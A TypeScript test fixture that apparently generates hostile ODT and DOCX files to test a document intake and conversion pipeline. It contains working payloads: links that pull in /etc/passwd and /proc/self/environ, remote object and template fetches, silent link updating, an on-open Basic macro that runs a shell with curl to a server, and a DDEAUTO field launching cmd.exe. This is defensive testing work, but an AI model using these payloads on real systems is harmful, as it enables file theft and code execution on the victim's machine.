import { crc32, deflateSync } from 'node:zlib';

import { zipOf } from './sample-office.ts';

/** What hostile documents reach for: files outside their folder, and a server. */
export interface Targets {
  /** A PNG, a text file and a text document with a secret, absolute paths. */
  image: string;
  text: string;
  document: string;
  /** Origin of a server on this machine. */
  server: string;
  /** A path that a macro would write to. */
  trace: string;
}

const ODF = {
  office: 'urn:oasis:names:tc:opendocument:xmlns:office:1.0',
  text: 'urn:oasis:names:tc:opendocument:xmlns:text:1.0',
  draw: 'urn:oasis:names:tc:opendocument:xmlns:drawing:1.0',
  style: 'urn:oasis:names:tc:opendocument:xmlns:style:1.0',
  svg: 'urn:oasis:names:tc:opendocument:xmlns:svg-compatible:1.0',
  script: 'urn:oasis:names:tc:opendocument:xmlns:script:1.0',
  config: 'urn:oasis:names:tc:opendocument:xmlns:config:1.0',
  ooo: 'http://openoffice.org/2004/office',
  dom: 'http://www.w3.org/2001/xml-events',
  xlink: 'http://www.w3.org/1999/xlink',
};
const ODT = 'application/vnd.oasis.opendocument.text';
const namespaces = Object.entries(ODF)
  .map(([prefix, uri]) => `xmlns:${prefix}="${uri}"`)
  .join(' ');
const XML = '<?xml version="1.0" encoding="UTF-8"?>';
const LINK = 'xlink:type="simple" xlink:show="embed" xlink:actuate="onLoad"';

const picture = (href: string): string =>
  `<text:p><draw:frame text:anchor-type="as-char" svg:width="2cm" svg:height="2cm">` +
  `<draw:image xlink:href="${href}" ${LINK}/></draw:frame></text:p>`;
const section = (name: string, href: string, more = ''): string =>
  `<text:section text:name="${name}"><text:section-source xlink:href="${href}" ${LINK} ${more}/>` +
  `<text:p>${name}</text:p></text:section>`;
const linkedObject = (href: string): string =>
  `<text:p><draw:frame text:anchor-type="as-char" svg:width="5cm" svg:height="5cm">` +
  `<draw:object xlink:href="${href}" ${LINK}/></draw:frame></text:p>`;
const linkedFrame = (href: string): string =>
  `<text:p><draw:frame text:anchor-type="as-char" svg:width="5cm" svg:height="5cm">` +
  `<draw:floating-frame draw:frame-name="f" xlink:href="${href}" ${LINK}/></draw:frame></text:p>`;

/** Links of every kind that ODF has (ODF 1.3 part 3): pictures, sections, objects, frames, page backgrounds. */
function odfBody({ image, text, document, server }: Targets): string {
  return [
    '<text:p>Contrato que lê o que não é seu</text:p>',
    picture(`file://${image}`),
    picture(`..${image}`),
    picture(`${server}/odf-imagem.png`),
    section('documento', `file://${document}`, 'text:filter-name="writer8"'),
    section('texto', `file://${text}`, 'text:filter-name="Text"'),
    section('senhas', 'file:///etc/passwd', 'text:filter-name="Text"'),
    section('ambiente', 'file:///proc/self/environ', 'text:filter-name="Text"'),
    section('remoto', `${server}/odf-secao.odt`, 'text:filter-name="writer8"'),
    linkedObject(`file://${document}`),
    linkedObject(`${server}/odf-objeto.odt`),
    linkedFrame(`file://${document}`),
    linkedFrame(`${server}/odf-quadro.html`),
  ].join('');
}

/** Asks for links to be updated on opening, without a question. */
const updatingLinks =
  '<office:settings><config:config-item-set config:name="ooo:configuration-settings">' +
  '<config:config-item config:name="LinkUpdateMode" config:type="short">2</config:config-item>' +
  '</config:config-item-set></office:settings>';
const onLoad =
  '<office:event-listeners><script:event-listener script:language="ooo:script" script:event-name="dom:load" ' +
  'xlink:href="vnd.sun.star.script:Standard.Module1.Run?language=Basic&amp;location=document" xlink:type="simple"/>' +
  '</office:event-listeners>';
const basic = ({ trace, server }: Targets): string =>
  `Sub Run\nShell("/bin/sh", 0, "-c 'id > ${trace}; curl -s ${server}/macro'")\n` +
  `Open "${trace}.basic" For Output As #1\nPrint #1, "executado"\nClose #1\nEnd Sub\n`;

const basicText = (targets: Targets): string =>
  basic(targets).replaceAll('&', '&amp;').replaceAll('>', '&gt;').replaceAll('<', '&lt;');

/** An ODT that links to everything it should not reach, with a macro that runs on opening. */
export function hostileOdt(targets: Targets): Buffer {
  const manifest = 'urn:oasis:names:tc:opendocument:xmlns:manifest:1.0';
  const library = 'http://openoffice.org/2000/library';
  const entries = [
    'content.xml',
    'styles.xml',
    'settings.xml',
    'Basic/script-lc.xml',
    'Basic/Standard/script-lb.xml',
    'Basic/Standard/Module1.xml',
  ];
  return zipOf({
    mimetype: ODT,
    'content.xml':
      `${XML}<office:document-content ${namespaces} office:version="1.3"><office:scripts>${onLoad}</office:scripts>` +
      `<office:body><office:text>${odfBody(targets)}</office:text></office:body></office:document-content>`,
    'styles.xml':
      `${XML}<office:document-styles ${namespaces} office:version="1.3"><office:automatic-styles>` +
      `<style:page-layout style:name="pm"><style:page-layout-properties>` +
      `<style:background-image xlink:href="file://${targets.image}" ${LINK}/></style:page-layout-properties>` +
      `</style:page-layout></office:automatic-styles><office:master-styles>` +
      `<style:master-page style:name="Standard" style:page-layout-name="pm"/></office:master-styles>` +
      `</office:document-styles>`,
    'settings.xml': `${XML}<office:document-settings ${namespaces} office:version="1.3">${updatingLinks}</office:document-settings>`,
    'Basic/script-lc.xml':
      `${XML}<library:libraries xmlns:library="${library}" xmlns:xlink="${ODF.xlink}">` +
      `<library:library library:name="Standard" library:link="false"/></library:libraries>`,
    'Basic/Standard/script-lb.xml':
      `${XML}<library:library xmlns:library="${library}" library:name="Standard" library:readonly="false" ` +
      `library:passwordprotected="false"><library:element library:name="Module1"/></library:library>`,
    'Basic/Standard/Module1.xml':
      `${XML}<script:module xmlns:script="http://openoffice.org/2000/script" script:name="Module1" ` +
      `script:language="StarBasic">${basicText(targets)}</script:module>`,
    'META-INF/manifest.xml':
      `${XML}<manifest:manifest xmlns:manifest="${manifest}" manifest:version="1.3">` +
      `<manifest:file-entry manifest:full-path="/" manifest:media-type="${ODT}"/>` +
      entries
        .map((name) => `<manifest:file-entry manifest:full-path="${name}" manifest:media-type="text/xml"/>`)
        .join('') +
      '</manifest:manifest>',
  });
}

/** The same as one XML file: intake does not take it for an ODT, but soffice does. */
export function hostileFlatOdt(targets: Targets): Buffer {
  return Buffer.from(
    `${XML}<office:document ${namespaces} office:version="1.3" office:mimetype="${ODT}">` +
      `${updatingLinks}<office:scripts><office:script script:language="ooo:Basic"><ooo:libraries><ooo:library-embedded ooo:name="Standard">` +
      `<ooo:module ooo:name="Module1"><ooo:source-code>${basicText(targets)}</ooo:source-code></ooo:module>` +
      `</ooo:library-embedded></ooo:libraries></office:script>${onLoad}</office:scripts><office:body><office:text>${odfBody(targets)}</office:text>` +
      `</office:body></office:document>`,
  );
}

const OFFICE_RELATIONSHIPS = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
const PACKAGE_RELATIONSHIPS = 'http://schemas.openxmlformats.org/package/2006/relationships';
const WORD = 'http://schemas.openxmlformats.org/wordprocessingml/2006/main';

const field = (instruction: string): string =>
  `<w:p><w:r><w:fldChar w:fldCharType="begin" w:dirty="true"/></w:r><w:r><w:instrText xml:space="preserve"> ` +
  `${instruction} </w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>campo</w:t></w:r>` +
  `<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>`;

const linkedPicture = (id: string): string =>
  `<w:p><w:r><w:drawing><wp:inline xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing">` +
  `<wp:extent cx="720000" cy="720000"/><wp:docPr id="1" name="${id}"/>` +
  `<a:graphic xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main">` +
  `<a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/picture">` +
  `<pic:pic xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:nvPicPr>` +
  `<pic:cNvPr id="1" name="${id}"/><pic:cNvPicPr/></pic:nvPicPr><pic:blipFill><a:blip r:link="${id}"/><a:stretch>` +
  `<a:fillRect/></a:stretch></pic:blipFill><pic:spPr><a:xfrm><a:off x="0" y="0"/><a:ext cx="720000" cy="720000"/>` +
  `</a:xfrm><a:prstGeom prst="rect"><a:avLst/></a:prstGeom></pic:spPr></pic:pic></a:graphicData></a:graphic>` +
  `</wp:inline></w:drawing></w:r></w:p>`;

type Link = readonly [id: string, type: string, target: string];

/** A DOCX with external relationships and fields of every kind that fetches (ECMA-376 part 1, 17.16.5). */
export function hostileDocx({ image, text, document, server }: Targets): Buffer {
  const links: readonly Link[] = [
    ['img1', 'image', `file://${image}`],
    ['img2', 'image', `${server}/docx-imagem.png`],
    ['ole1', 'oleObject', `file://${document}`],
    ['ole2', 'oleObject', `${server}/docx-objeto.odt`],
    ['alt1', 'aFChunk', `file://${text}`],
    ['alt2', 'aFChunk', `${server}/docx-parte.html`],
    ['sub1', 'subDocument', `file://${document}`],
    ['frm1', 'frame', `${server}/docx-quadro.html`],
  ];
  const template: readonly Link[] = [['tpl1', 'attachedTemplate', `${server}/docx-modelo.dotm`]];
  const relationships = (list: readonly Link[], more = ''): string =>
    `${XML}<Relationships xmlns="${PACKAGE_RELATIONSHIPS}">${more}` +
    list
      .map(
        ([id, type, target]) =>
          `<Relationship Id="${id}" Type="${OFFICE_RELATIONSHIPS}/${type}" Target="${target}" TargetMode="External"/>`,
      )
      .join('') +
    '</Relationships>';
  const body = [
    '<w:p><w:r><w:t>Contrato que lê o que não é seu</w:t></w:r></w:p>',
    linkedPicture('img1'),
    linkedPicture('img2'),
    field(`INCLUDEPICTURE "file://${image}" \\d`),
    field(`INCLUDEPICTURE "${server}/docx-campo.png" \\d`),
    field(`INCLUDETEXT "file://${text}"`),
    field(`INCLUDETEXT "${server}/docx-texto.txt"`),
    field(`LINK Word.Document.8 "${document}" "" \\a \\t`),
    field(`DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe"`),
    '<w:altChunk r:id="alt1"/><w:altChunk r:id="alt2"/><w:subDoc r:id="sub1"/>',
    '<w:p><w:r><w:object><o:OLEObject xmlns:o="urn:schemas-microsoft-com:office:office" Type="Link" ProgID="Word.Document.8" ' +
      'ShapeID="s1" DrawAspect="Content" ObjectID="_1" r:id="ole1" UpdateMode="Always"/></w:object></w:r></w:p>',
    '<w:p><w:r><w:object><o:OLEObject xmlns:o="urn:schemas-microsoft-com:office:office" Type="Link" ProgID="Word.Document.8" ' +
      'ShapeID="s2" DrawAspect="Content" ObjectID="_2" r:id="ole2" UpdateMode="Always"/></w:object></w:r></w:p>',
  ];
  const types = 'http://schemas.openxmlformats.org/package/2006/content-types';
  const main = 'application/vnd.openxmlformats-officedocument.wordprocessingml';
  return zipOf({
    '[Content_Types].xml':
      `${XML}<Types xmlns="${types}"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>` +
      `<Default Extension="xml" ContentType="application/xml"/>` +
      `<Override PartName="/word/document.xml" ContentType="${main}.document.main+xml"/>` +
      `<Override PartName="/word/settings.xml" ContentType="${main}.settings+xml"/></Types>`,
    '_rels/.rels':
      `${XML}<Relationships xmlns="${PACKAGE_RELATIONSHIPS}"><Relationship Id="r1" Type="${OFFICE_RELATIONSHIPS}/officeDocument" ` +
      `Target="word/document.xml"/></Relationships>`,
    'word/document.xml': `${XML}<w:document xmlns:w="${WORD}" xmlns:r="${OFFICE_RELATIONSHIPS}"><w:body>${body.join('')}</w:body></w:document>`,
    'word/_rels/document.xml.rels': relationships(
      links,
      `<Relationship Id="set" Type="${OFFICE_RELATIONSHIPS}/settings" Target="settings.xml"/>`,
    ),
    'word/settings.xml': `${XML}<w:settings xmlns:w="${WORD}" xmlns:r="${OFFICE_RELATIONSHIPS}"><w:attachedTemplate r:id="tpl1"/></w:settings>`,
    'word/_rels/settings.xml.rels': relationships(template),
  });
}

/** A picture in one loud colour. */
export const magentaPng = (): Buffer => pngPicture([255, 0, 255]);

/** A picture in one colour of red, green and blue (W3C PNG). */
export function pngPicture(colour: readonly [number, number, number], side = 64): Buffer {
  const chunk = (type: string, data: Buffer): Buffer => {
    const named = Buffer.concat([Buffer.from(type), data]);
    const frame = Buffer.alloc(8);
    frame.writeUInt32BE(data.length, 0);
    frame.writeUInt32BE(crc32(named), 4);
    return Buffer.concat([frame.subarray(0, 4), named, frame.subarray(4)]);
  };
  const header = Buffer.alloc(13);
  header.writeUInt32BE(side, 0);
  header.writeUInt32BE(side, 4);
  header.set([8, 2, 0, 0, 0], 8);
  const row = Buffer.concat([Buffer.from([0]), Buffer.alloc(side * 3, Buffer.from(colour))]);
  return Buffer.concat([
    Buffer.from('89504e470d0a1a0a', 'hex'),
    chunk('IHDR', header),
    chunk('IDAT', deflateSync(Buffer.concat(Array.from({ length: side }, () => row)))),
    chunk('IEND', Buffer.alloc(0)),
  ]);
}
